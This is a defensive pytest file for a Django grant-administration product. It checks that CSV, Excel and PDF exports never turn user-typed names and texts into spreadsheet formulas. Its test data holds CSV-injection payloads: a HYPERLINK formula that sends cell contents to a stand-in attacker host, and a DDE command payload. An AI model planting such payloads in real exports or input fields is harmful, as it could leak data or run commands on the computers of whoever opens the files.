"""No export runs text typed by a user as a spreadsheet formula.

Organisation and unit names, measure titles and the office's assessment are
given a formula (``=HYPERLINK(...)``, ``@SUM``, ``+``, ``-``) before every
export of the product is read back: CSV cells must not begin with a formula
sign (the helper writes a leading apostrophe), no Excel cell may be a formula,
and PDFs show the text as it was typed. Every URL that serves a file must be
in ``EXPORTS`` below, so a new export cannot skip the check.
"""

import csv
import io
import re
import subprocess

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from kompetansemidler.archive.models import RegistryEntry
from kompetansemidler.core.exports import FORMULA_STARTS
from kompetansemidler.recommendations.models import RecommendationLine
from kompetansemidler.reporting.office_report import office_report_for
from tests.access.archive import _entry as journal_entry
from tests.recommendations.objects import adopted_recommendation
from tests.reporting.objects import paid_decision
from tests.test_access_matrix import RULES, URLS

pytestmark = pytest.mark.django_db

OWNER = '=HYPERLINK("https://angrep.invalid/?d="&A1;"Bergen")'
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
MEASURE = "+47 Språkløft"
ASSESSMENT = "-2+3 Vurdering frå embetet"
PAYLOADS = (OWNER, UNIT, MEASURE, ASSESSMENT)

# Every URL that serves a file: the persona who fetches it, its formats, and
# whether it carries text typed by users (then a payload must be in it).
EXPORTS = {
    "registry:office_export": ("udir", ("csv", "xlsx"), False),
    "registry:county_export": ("udir", ("csv", "xlsx"), False),
    "registry:municipality_export": ("udir", ("csv", "xlsx"), False),
    "registry:organisation_export": ("udir", ("csv", "xlsx"), True),
    "registry:unit_export": ("udir", ("csv", "xlsx"), True),
    "schemes:round_export": ("udir", ("csv", "xlsx"), False),
    "needs:round_overview_export": ("caseworker", ("csv", "xlsx"), True),
    "needs:allocation_table_export": ("caseworker", ("csv", "xlsx"), False),
    "recommendations:export": ("caseworker", ("pdf", "xlsx"), True),
    "decisions:export": ("caseworker", ("csv", "xlsx"), True),
    "decisions:payments_export": ("caseworker", ("csv", "xlsx"), True),
    "decisions:letter": ("caseworker", ("pdf",), True),
    "archive:public_journal_export": ("outsider", ("csv", "xlsx"), True),
    "reporting:office_pdf": ("caseworker", ("pdf",), True),
    "reporting:office_xlsx": ("caseworker", ("xlsx",), True),
    "statistics:national_export": ("udir", ("csv", "xlsx"), False),
    "statistics:public_export": ("outsider", ("csv", "xlsx"), True),
}
# Files that are not exports of the product's lists: stored as they were
# uploaded or archived, or an archive package (XML), not a spreadsheet.
NOT_EXPORTS = {
    "archive:public_document": "the stored PDF of a journal entry, served as archived",
    "archive:staff_document": "the stored PDF of a journal entry, served as archived",
    "archive:deposit": "a Noark 5 deposit package: XML and archived PDFs, not a spreadsheet",
    "needs:partnership_agreement": "the agreement file as the owner uploaded it",
}
FILE_URL = re.compile(r"fmt|\.pdf|\.xlsx|\.csv|eksport|brev/|dokument|uttrekk|avtale")


def test_every_file_url_is_checked_for_formulas():
    files = {name for name, pattern in URLS.items() if FILE_URL.search(pattern)}
    # POSTs that write letters, and the letters' progress panel: no file.
    files -= {
        "decisions:round_letters",
        "decisions:round_letter_retry",
        "decisions:round_letters_progress",
    }
    assert files - set(EXPORTS) - set(NOT_EXPORTS) == set()


@pytest.fixture
def planted(cast):
    """The payloads in the names and texts that exports carry."""
    recommendation = adopted_recommendation(cast)
    decision = paid_decision(cast)
    cast.owner.name = OWNER
    cast.owner.save()
    cast.unit.name = UNIT
    cast.unit.save()
    RecommendationLine.objects.filter(recommendation=recommendation).update(title=MEASURE)
    report = office_report_for(cast.vestland, decision.round.year)
    report.assessment = ASSESSMENT
    report.save()
    entry = journal_entry(cast)
    RegistryEntry.objects.filter(pk=entry.pk).update(title=MEASURE, public_title=MEASURE)
    return decision


def _text(response, fmt) -> tuple[list[str], list[str]]:
    """(every cell's or line's text, the formulas found) of the file."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
        cells = [cell for row in rows for cell in row]
        return cells, [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    if fmt == "xlsx":
        workbook = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        formulas = [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
        return [str(c.value) for c in cells if c.value is not None], formulas
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=content, capture_output=True, check=True
    ).stdout.decode()
    return [" ".join(text.split())], []


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_exports_write_user_text_as_text_never_as_a_formula(name, cast, planted):
    persona, formats, carries_user_text = EXPORTS[name]
    rule = RULES[name]
    client = Client()
    client.force_login(cast.users()[persona])
    kwargs = rule.kwargs(cast)
    for fmt in formats:
        if "fmt" in kwargs:
            kwargs["fmt"] = fmt
        response = client.get(reverse(name, kwargs=kwargs), _query(rule))
        assert response.status_code == 200, (name, fmt, response.status_code)
        texts, formulas = _text(response, fmt)
        assert formulas == [], f"{name}.{fmt} has formulas: {formulas[:5]}"
        if carries_user_text:
            joined = "\n".join(texts)
            found = [p for p in PAYLOADS if p in joined or " ".join(p.split()) in joined]
            assert found, f"{name}.{fmt} carries none of the planted texts"


def _query(rule) -> dict:
    return dict(part.split("=", 1) for part in rule.query.split("&")) if rule.query else {}
